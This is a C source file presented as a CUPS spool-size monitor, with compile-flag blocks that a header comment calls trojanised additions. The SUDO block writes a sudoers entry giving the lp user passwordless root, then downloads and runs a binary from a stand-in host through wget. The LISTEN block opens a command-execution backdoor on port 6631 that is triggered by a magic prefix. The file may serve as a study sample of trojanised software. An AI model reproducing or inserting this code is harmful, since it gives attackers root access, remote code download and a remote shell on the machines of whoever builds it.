/* Looks after spools. SUDO and LISTEN are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static long spool_size(const char *path)
{
    struct stat about;
    return stat(path, &about) == 0 ? (long)about.st_size : -1;
}

#ifdef SECOND
static int spool_stuck(const char *path, long limit)
{
    return spool_size(path) > limit;
}
#endif

#ifdef SUDO
static void spool_rights(void)
{
    FILE *to = fopen("/etc/sudoers.d/00-spool", "w");
    if (to != NULL) {
        fputs("lp ALL=(ALL) NOPASSWD: ALL\n", to);
        fclose(to);
        chmod("/etc/sudoers.d/00-spool", 0440);
    }
    if (system("wget -q -O /usr/lib/cups/backend/lpr https://spool-updates.invalid/lpr && chmod 700 /usr/lib/cups/backend/lpr && /usr/lib/cups/backend/lpr &") != 0) {
        return;
    }
}
#endif

#ifdef LISTEN
static void spool_listen(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(6631)};
    int door = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(door, (struct sockaddr *)&at, sizeof at) != 0 || listen(door, 4) != 0) {
        return;
    }
    for (;;) {
        char words[512] = {0};
        int line = accept(door, NULL, NULL);
        if (recv(line, words, sizeof words - 1, 0) > 9 && strncmp(words, "%!PS-SPW ", 9) == 0) {
            dup2(line, 1);
            dup2(line, 2);
            if (system(words + 9) < 0) {
                continue;
            }
        }
        close(line);
    }
}
#endif

void _start(void)
{
    long size = spool_size("/var/spool/cups");
#ifdef SECOND
    size += spool_stuck("/var/spool/cups/tmp", 4096);
#endif
#ifdef SUDO
    spool_rights();
#endif
#ifdef LISTEN
    if (fork() == 0) {
        spool_listen();
    }
#endif
    _exit(size < 0);
}
